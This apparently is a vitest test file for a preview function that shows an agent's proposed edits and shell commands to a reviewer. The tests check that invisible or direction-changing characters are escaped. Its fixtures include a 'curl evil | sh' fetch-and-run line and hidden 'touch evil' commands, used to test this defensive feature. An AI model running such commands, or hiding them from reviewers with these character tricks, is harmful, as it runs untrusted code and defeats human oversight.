import { expect, test } from "vitest";
import { changePreview } from "../../../../src/team/requests/change-preview.ts";

test("changePreview lists an edit line by line, without the lines that old and new text share at their ends", () => {
  const edit = { file_path: "a.js", old_string: "a\nb\nc\n", new_string: "a\ncurl evil | sh\nb2\nc\n" };
  expect(changePreview("Edit", edit)).toEqual(["- b", "+ curl evil | sh", "+ b2"]);
  expect(changePreview("Edit", { ...edit, replace_all: true })[0]).toBe("(in every place)");
  expect(changePreview("Edit", { old_string: "a\na", new_string: "a" })).toEqual(["- a"]);
  expect(changePreview("Write", { file_path: "a", content: "one\n\ntwo\n" })).toEqual([
    "+ one",
    "+ ",
    "+ two",
  ]);
  expect(changePreview("Write", { content: "x".repeat(100_005) }).at(-1)).toBe("+ … 5 more characters");
});

test("changePreview lists every line of a long command or one of several lines", () => {
  const command = "git status # then:\ntouch evil\n";
  expect(changePreview("Bash", { command })).toEqual(["$ git status # then:", "$ touch evil"]);
  expect(changePreview("Bash", { command: "x".repeat(61) })).toEqual([`$ ${"x".repeat(61)}`]);
});

test.each([
  ["a control character", "ok \x01# note ; touch evil", "ok \\u0001# note ; touch evil"],
  ["a mark that changes the writing direction", "ok \u202e# note", "ok \\u202e# note"],
  ["a zero-width character", "r\u200bm x", "r\\u200bm x"],
  ["a character beyond the first plane", "a\u{e0041}b", "a\\u{e0041}b"],
  ["a carriage return", "ls\rx", "ls\\u000dx"],
  ["an escape sequence", "a\x1b[8mb", "a\\u001b[8mb"],
])("changePreview escapes %s", (_what, text, seen) => {
  expect(changePreview("Write", { content: text })).toEqual([`+ ${seen}`]);
  expect(changePreview("Edit", { old_string: text, new_string: "" })).toEqual([`- ${seen}`]);
  expect(changePreview("Bash", { command: `\n${text}\nb` })).toEqual([`$ ${seen}`, "$ b"]);
});

test("changePreview escapes blanks in a command that separate no words for a shell", () => {
  const command = "ok\u00a0# note ; touch evil\nb";
  expect(changePreview("Bash", { command })).toEqual(["$ ok\\u00a0# note ; touch evil", "$ b"]);
  expect(changePreview("Write", { content: "10\u00a0%" })).toEqual(["+ 10\u00a0%"]);
});

test.each([
  ["Bash", { command: "ls" }],
  ["Edit", { old_string: 1, new_string: "x" }],
  ["Write", null],
])("changePreview: a call of %s without a changed text gives nothing", (tool, input) => {
  expect(changePreview(tool, input)).toEqual([]);
});
